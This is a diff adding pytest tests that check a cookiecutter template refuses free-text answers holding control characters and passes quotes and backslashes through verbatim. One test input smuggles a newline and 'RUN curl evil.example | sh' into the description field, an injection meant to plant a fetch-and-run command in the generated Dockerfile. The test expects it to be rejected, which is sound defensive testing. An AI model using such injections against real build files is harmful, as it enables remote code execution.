@@ -118,3 +118,36 @@ def test_dockerfile_uses_the_chosen_image_and_existing_files(bake):
     assert (project / cmd[cmd.index("--config") + 1]).exists()
     # The image's CUDA torch must not be replaced by a wheel from the requirements.
     assert "grep -v '^torch' requirements.txt" in (project / "Dockerfile").read_text()
+
+
+@pytest.mark.parametrize("answer, message", [
+    ({"author_name": ""}, "author_name is empty (it is the copyright holder in LICENSE)"),
+    ({"author_name": "   "}, "author_name is empty (it is the copyright holder in LICENSE)"),
+    ({"project_name": "Voice\nLab"}, "project_name holds a control character (U+000A); give one line of plain text"),
+    ({"author_name": "Ada\tLovelace"}, "author_name holds a control character (U+0009)"),
+    ({"description": "One line.\nRUN curl evil.example | sh"}, "description holds a control character (U+000A)"),
+    ({"description": "Ring \x07 the bell"}, "description holds a control character (U+0007)"),
+])
+def test_bad_free_text_answers_are_refused_with_one_error_line(tmp_path, answer, message):
+    key, value = next(iter(answer.items()))
+    proc = subprocess.run([sys.executable, "-m", "cookiecutter", "--no-input", str(ROOT), "-o", str(tmp_path),
+                           f"{key}={value}", "project_slug=voice"], capture_output=True, text=True, timeout=120)
+    assert proc.returncode != 0
+    # cookiecutter adds its own "ERROR: Stopping generation ..." line; ours is the one naming the answer.
+    ours = [line for line in proc.stderr.splitlines()
+            if line.startswith("ERROR:") and not line.startswith("ERROR: Stopping generation")]
+    assert len(ours) == 1 and ours[0].startswith(f"ERROR: {message}"), proc.stderr
+    assert "Traceback" not in proc.stderr and "SyntaxError" not in proc.stderr, proc.stderr
+    assert not any(tmp_path.iterdir()), "nothing may be written for a refused answer"
+
+
+def test_quotes_and_backslashes_in_answers_reach_the_project_verbatim(bake):
+    """The hook renders the answers into Python string literals: quotes and backslashes must not break it."""
+    name = 'Voice "Lab" \\ 2'
+    author = "Seán O'Brien \"Jr\" \\"
+    description = 'Says "hi", \'bye\' and """ or \'\'\' \\n without breaking anything.'
+    project = bake(project_name=name, author_name=author, description=description, project_slug="voice_lab")
+    readme = (project / "README.md").read_text()
+    assert readme.startswith(f"# {name}\n") and f"\n{description}\n" in readme
+    assert author in (project / "LICENSE").read_text()
+    assert (project / "Dockerfile").read_text().startswith(f"# {name}: ")
